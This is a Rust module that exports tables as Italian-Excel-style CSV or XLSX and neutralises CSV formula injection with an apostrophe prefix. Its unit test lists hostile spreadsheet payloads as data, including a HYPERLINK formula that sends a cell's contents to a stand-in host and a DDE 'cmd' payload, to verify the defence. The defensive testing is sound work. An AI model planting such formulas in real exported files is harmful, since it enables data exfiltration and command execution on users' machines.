//! Tables in and out, for every domain: written as CSV the way Italian Excel
//! opens it (`;`, UTF-8 with BOM) or as XLSX; read from CSV or XLSX files
//! (`table`). The files themselves are written through `crate::fs`.

pub mod table;

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};

#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Csv,
    Xlsx,
}

impl Format {
    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
        }
    }
}

/// A clean default file name: `Comuni_2026-11-23.csv`.
pub fn default_file_name(stem: &str, format: Format, today: chrono::NaiveDate) -> String {
    format!("{stem}_{today}.{}", format.extension())
}

/// A table as CSV bytes the way Italian Excel opens it: BOM, `;`, CRLF.
///
/// A cell a spreadsheet would run as a formula is prefixed with `'`
/// ([`neutralise`]); the importers remove it again ([`restore_cell`]).
pub fn table_csv<R: AsRef<[String]>>(headers: &[&str], rows: &[R]) -> Result<Vec<u8>> {
    let mut out = vec![0xEF, 0xBB, 0xBF];
    {
        let mut w = csv::WriterBuilder::new()
            .delimiter(b';')
            .terminator(csv::Terminator::CRLF)
            .from_writer(&mut out);
        let io_err = |e: csv::Error| Error::io(format!("Errore nella scrittura del CSV: {e}"));
        w.write_record(headers).map_err(io_err)?;
        for r in rows {
            w.write_record(r.as_ref().iter().map(|c| neutralise(c).into_owned()))
                .map_err(io_err)?;
        }
        w.flush()?;
    }
    Ok(out)
}

/// Whether a CSV cell would be read by a spreadsheet as a formula (OWASP's
/// CSV injection: `=`, `+`, `-`, `@`, tab, carriage return) or already
/// carries the `'` that neutralises one.
fn needs_quote_mark(cell: &str) -> bool {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
        Some('\'') => needs_quote_mark(&cell[1..]),
        _ => false,
    }
}

/// A cell as written in a CSV: prefixed with `'` where a spreadsheet would
/// run it as a formula (and where it already begins with such a `'`, so
/// that [`restore_cell`] gives back exactly what was written).
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote_mark(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// A CSV cell as read: the `'` that [`neutralise`] added is removed.
pub fn restore_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote_mark(rest) => rest,
        _ => cell,
    }
}

/// A table as XLSX bytes: one sheet, bold frozen header, a filter; the
/// `numeric` columns are written as numbers.
pub fn table_xlsx<R: AsRef<[String]>>(
    sheet_name: &str,
    headers: &[&str],
    rows: &[R],
    numeric: &[u16],
) -> Result<Vec<u8>> {
    use rust_xlsxwriter::{Format as XFormat, Workbook};
    let x = |e: rust_xlsxwriter::XlsxError| {
        Error::io(format!("Errore nella scrittura del file Excel: {e}"))
    };
    let mut wb = Workbook::new();
    let bold = XFormat::new().set_bold();
    let sheet = wb.add_worksheet();
    sheet.set_name(sheet_name).map_err(x)?;
    for (c, h) in headers.iter().enumerate() {
        sheet
            .write_string_with_format(0, c as u16, *h, &bold)
            .map_err(x)?;
    }
    for (i, r) in rows.iter().enumerate() {
        let row = (i + 1) as u32;
        for (c, v) in r.as_ref().iter().enumerate() {
            let c = c as u16;
            if v.is_empty() {
                continue;
            }
            match (numeric.contains(&c), v.parse::<f64>()) {
                (true, Ok(n)) => sheet.write_number(row, c, n).map_err(x)?,
                _ => sheet.write_string(row, c, v).map_err(x)?,
            };
        }
    }
    sheet.set_freeze_panes(1, 0).map_err(x)?;
    sheet
        .autofilter(
            0,
            0,
            rows.len() as u32,
            headers.len().saturating_sub(1) as u16,
        )
        .map_err(x)?;
    sheet.autofit();
    wb.save_to_buffer().map_err(x)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_read_back_exactly() {
        let payloads = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")",
            "+cmd|'/C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "'=già neutralizzata",
            "''+due apici",
            "'testo con apice",
            "Messina",
            "",
        ];
        let rows: Vec<Vec<String>> = payloads
            .iter()
            .map(|p| vec!["x".to_string(), p.to_string()])
            .collect();
        let bytes = table_csv(&["Nome", "Valore"], &rows).unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        for line in text.lines().skip(1) {
            let cell = line.split_once(';').unwrap().1.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula reaches the spreadsheet: {line:?}"
            );
        }
        assert!(text.contains("'=HYPERLINK"), "{text}");
        assert!(text.contains("'+cmd|"), "{text}");
        assert!(text.contains("'@SUM"), "{text}");
        let table = table::read_bytes(&bytes, false, &|r| r[0] == "Nome").unwrap();
        let back: Vec<&str> = table.rows.iter().map(|r| r.cells[1].as_str()).collect();
        // The empty cell's row is all but blank: "x" keeps it.
        assert_eq!(back, payloads);
    }
}
